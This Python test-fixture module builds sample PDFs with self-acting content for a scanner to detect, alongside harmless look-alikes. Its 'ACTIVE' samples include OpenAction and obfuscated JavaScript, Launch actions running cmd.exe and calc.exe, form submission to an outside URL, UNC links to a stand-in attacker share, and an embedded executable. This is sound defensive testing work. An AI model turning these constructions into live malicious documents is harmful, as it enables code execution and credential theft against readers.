"""PDFs that do something by themselves, in every place where that can stand; and what looks like it and is harmless."""

from collections.abc import Callable

from tests.intake.hostile.pdf_bombs import CATALOG, ONE_PAGE, PAGE, simple, stream, written

JS = b"<</S/JavaScript/JS(app.alert(1))>>"


def catalog(entry: bytes, *more: bytes) -> bytes:
    """A PDF with this in its catalogue."""
    return simple(*more, catalog=CATALOG[:-2] + entry + b">>")


def page(entry: bytes, *more: bytes) -> bytes:
    """A PDF with this in its page."""
    return simple(*more, page=PAGE[:-2] + entry + b">>")


def note(entry: bytes, *more: bytes) -> bytes:
    """A PDF with this annotation on its page."""
    return page(b"/Annots[<</Type/Annot/Rect[0 0 9 9]" + entry + b">>]", *more)


def packed_script() -> bytes:
    """The script lies in a packed object."""
    import io

    import pikepdf

    document = pikepdf.new()
    document.add_blank_page()
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.OpenAction = document.make_indirect(action)
    target = io.BytesIO()
    document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return target.getvalue()


ACTIVE: dict[str, Callable[[], bytes]] = {
    "script on opening": lambda: catalog(b"/OpenAction" + JS),
    "script on opening, apart": lambda: catalog(b"/OpenAction 4 0 R", JS),
    "script on opening, packed": packed_script,
    "script in the names": lambda: catalog(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", JS),
    "script in the names, deep": lambda: catalog(
        b"/Names<</JavaScript<</Kids[4 0 R]>>>>", b"<</Kids[5 0 R]>>", b"<</Names[(a) 6 0 R]>>", JS
    ),
    "script before closing": lambda: catalog(b"/AA<</WC" + JS + b">>"),
    "script on a page": lambda: page(b"/AA<</O" + JS + b">>"),
    "script on a link": lambda: note(b"/Subtype/Link/A" + JS),
    "script after a link": lambda: note(
        b"/Subtype/Link/A<</S/URI/URI(https://a.id)/Next[<</S/GoTo/D(a)>>" + JS + b"]>>"
    ),
    "script in a field": lambda: catalog(b"/AcroForm<</Fields[4 0 R]>>", b"<</FT/Tx/T(a)/AA<</K" + JS + b">>>>"),
    "script in a bookmark": lambda: catalog(b"/Outlines<</First 4 0 R>>", b"<</Title(a)/A" + JS + b">>"),
    "script in a stream": lambda: catalog(b"/OpenAction<</S/JavaScript/JS 4 0 R>>", stream(b"app.alert(1)", b"")),
    "script nobody leads to": lambda: simple(JS),
    "script in a name with a hole": lambda: catalog(b"/OpenAction<</S/#4aava#53cript/J#53(app.alert(1))>>"),
    "script whose name lies apart": lambda: catalog(b"/OpenAction<</S 4 0 R/X 1>>", b"/JavaScript"),
    "program": lambda: catalog(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "program of Windows": lambda: note(b"/Subtype/Link/A<</Type/Action/S/Launch/Win<</F(calc.exe)>>>>"),
    "form that sends itself": lambda: note(b"/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(http://a.id)>>"),
    "form that fetches": lambda: note(b"/Subtype/Widget/FT/Btn/A<</S/ImportData/F(a.fdf)>>"),
    "other document": lambda: note(b"/Subtype/Link/A<</S/GoToR/F(\\\\\\\\penyerang\\\\bagi\\\\a.pdf)/D[0/Fit]>>"),
    "document within": lambda: note(b"/Subtype/Link/A<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>"),
    "film": lambda: note(b"/Subtype/Screen/A<</S/Rendition/OP 0>>"),
    "film, old": lambda: note(b"/Subtype/Movie/Movie<</F(a.avi)>>"),
    "sound": lambda: note(b"/Subtype/Sound/Sound 4 0 R", stream(b"x", b"/R 8000")),
    "flash": lambda: note(b"/Subtype/RichMedia/RichMediaContent<<>>"),
    "model in space": lambda: note(b"/Subtype/3D/3DD 4 0 R", stream(b"x", b"/Type/3D/Subtype/U3D")),
    "file within": lambda: catalog(
        b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
        b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
        stream(b"MZ", b"/Type/EmbeddedFile"),
    ),
    "file within, pinned to the page": lambda: note(
        b"/Subtype/FileAttachment/FS<</Type/Filespec/F(a.docm)/EF<</F 4 0 R>>>>", stream(b"x", b"")
    ),
    "file within, beside the page": lambda: page(b"/AF[<</Type/Filespec/F(a)/EF<</F 4 0 R>>>>]", stream(b"x", b"")),
    "form of another kind": lambda: catalog(b"/AcroForm<</Fields[]/XFA 4 0 R>>", stream(b"<xdp:xdp/>", b"")),
    "form of another kind, in parts": lambda: catalog(b"/AcroForm<</Fields[]/XFA[(a) 4 0 R]>>", stream(b"<a/>", b"")),
    "content in another file": lambda: page(b"/Contents 4 0 R", stream(b"", b"/F(\\\\\\\\penyerang\\\\bagi\\\\a)")),
    "link that is a script": lambda: note(b"/Subtype/Link/A<</S/URI/URI( javascript:alert\\(1\\))>>"),
    "link to a file": lambda: note(b"/Subtype/Link/A<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>"),
    "link to a share": lambda: note(b"/Subtype/Link/A<</S/URI/URI(\\\\\\\\penyerang\\\\bagi)>>"),
}

HARMLESS: dict[str, Callable[[], bytes]] = {
    "link to the web": lambda: note(b"/Subtype/Link/A<</S/URI/URI(https://klungkungkab.go.id/?a=javascript:)>>"),
    "link to a mailbox": lambda: note(b"/Subtype/Link/A<</S/URI/URI(mailto:desa@klungkungkab.go.id)>>"),
    "link within": lambda: note(b"/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]>>"),
    "opens at a page": lambda: catalog(b"/OpenAction[3 0 R/Fit]"),
    "base of links": lambda: catalog(b"/URI<</Base(https://klungkungkab.go.id/)>>"),
    "no files within": lambda: catalog(b"/Names<</EmbeddedFiles<</Names[]>>>>"),
    "plain form": lambda: catalog(b"/AcroForm<</Fields[4 0 R]>>", b"<</FT/Tx/T(nama)/V(Ni Luh)>>"),
    "button that clears": lambda: note(b"/Subtype/Widget/FT/Btn/A<</S/ResetForm>>"),
    "structure with roles": lambda: catalog(
        b"/StructTreeRoot<</Type/StructTreeRoot/K 4 0 R/RoleMap<</Movie/P>>>>", b"<</Type/StructElem/S/Movie/P 1 0 R>>"
    ),
    "text that speaks of scripts": lambda: catalog(b"/Lang(id)/Title(/JavaScript /JS /Launch)"),
    "written as a text": lambda: written([CATALOG, ONE_PAGE, PAGE, b"(/S /JavaScript /JS \\(app.alert\\(1\\)\\))"]),
}
